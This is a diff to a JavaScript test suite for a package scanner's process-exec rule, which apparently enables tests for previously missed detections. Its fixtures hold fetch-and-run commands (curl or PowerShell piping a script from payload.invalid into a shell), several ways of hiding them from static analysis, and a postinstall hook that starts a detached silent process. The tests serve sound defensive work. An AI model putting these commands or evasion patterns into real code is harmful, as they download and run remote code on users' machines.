@@ -60,26 +60,22 @@ describe('process-exec reports', () => {
     expect(r.of(RULE)).toEqual([finding('medium', ['exec', 'exec:bundled-binary'], { message: expect.stringContaining('update.exe') })]);
   });
 
-  // Known gap: loose folding compares the hole for process.platform as a real string, so the ternary folds to its else branch.
-  test.fails('a download hidden in the win32 branch of a ternary is found', () => {
+  test('a download hidden in the win32 branch of a ternary is found', () => {
     const r = scanFiles({ 'index.js': "const cp = require('child_process');\ncp.exec(process.platform === 'win32' ? 'powershell -c \"iwr https://payload.invalid/p.ps1 | iex\"' : 'true');" });
     expect(r.of(RULE)).toContainEqual(finding('critical', ['exec:shell-download']));
   });
 
-  // Known gap: in loose mode Evaluator.memberValue folds the object to a hole string first, so CMDS.nix never reaches the object literal.
-  test.fails('a command looked up in a constant object table is folded', () => {
+  test('a command looked up in a constant object table is folded', () => {
     const r = scanFiles({ 'index.js': "const cp = require('child_process');\nconst CMDS = { nix: 'curl -s https://payload.invalid/x | sh' };\ncp.exec(CMDS.nix);" });
     expect(r.of(RULE)).toContainEqual(finding('critical', ['exec:shell-download']));
   });
 
-  // Known gap: `var c; c = require(...)` has a declaration without init, which makes canonical() give up on c.
-  test.fails('child_process assigned after a bare declaration is still resolved', () => {
+  test('child_process assigned after a bare declaration is still resolved', () => {
     const r = scanFiles({ 'index.js': "var c;\nc = require('child_process');\nc.exec('curl -s https://payload.invalid/x | sh');" });
     expect(r.of(RULE)).toContainEqual(finding('critical', ['exec:shell-download']));
   });
 
-  // Known gap: lexical.ts TRIGGERS has no word for execa/cross-spawn/shelljs, so a file using only those is never parsed.
-  test.fails('execa starting a detached silent process at install is seen', () => {
+  test('execa starting a detached silent process at install is seen', () => {
     const r = scanFiles({
       'package.json': manifest({ scripts: { postinstall: 'node setup.js' } }),
       'setup.js': "const execa = require('execa');\nexeca('node', ['agent.js'], { detached: true, stdio: 'ignore' }).unref();",
@@ -122,8 +118,7 @@ describe('process-exec stays quiet', () => {
     expect(r.of(RULE)).toEqual([]);
   });
 
-  // Known gap: opening a URL with xdg-open/open/start (detached, stdio ignored, unref) is rated like a persistent implant.
-  test.fails('opening a URL in the desktop browser is not a detached implant', () => {
+  test('opening a URL in the desktop browser is not a detached implant', () => {
     const r = scanFiles({
       'index.js': "const cp = require('child_process');\nmodule.exports = (url) => {\n  const cmd = process.platform === 'darwin' ? 'open' : process.platform === 'win32' ? 'start' : 'xdg-open';\n  return cp.spawn(cmd, [url], { detached: true, stdio: 'ignore' }).unref();\n};",
     });
